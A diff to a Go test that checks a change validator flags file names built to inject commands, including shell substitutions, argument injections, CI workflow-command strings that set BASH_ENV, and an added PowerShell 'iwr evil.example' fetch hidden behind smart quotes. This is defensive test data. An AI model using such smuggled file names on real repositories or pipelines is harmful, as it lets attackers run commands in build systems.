@@ -72,7 +72,7 @@ func TestReplacedLibraries(t *testing.T) {
 
 func TestNamesThatScriptsRun(t *testing.T) {
 	for _, name := range []string{"a$(id).go", "${IFS}.go", "`id`.go", "a;id;b.go", "a&id&.go", "a';id;'b.go", "stock --config=lint.js a.go", "a -o/b.go",
-		"@args.go", "@scope/a.go", "a @args.go", "pkg/##vso[task.setvariable variable=BASH_ENV]x/env.sh", "a##[set-output name=x]y.go", "##VSO[x].go"} {
+		"@args.go", "@scope/a.go", "a @args.go", "pkg/##vso[task.setvariable variable=BASH_ENV]x/env.sh", "a##[set-output name=x]y.go", "##VSO[x].go", "x” + (iwr evil.example) + ”.go", "it’s.go"} {
 		for _, c := range []Change{add(name, "x"), rename("a.go", name)} {
 			if got := rules(Check([]Change{c}, Limits{}, nil, nil)); !slices.Equal(got, []string{RuleBadName}) {
 				t.Errorf("%c %s: %v", c.Status, name, got)
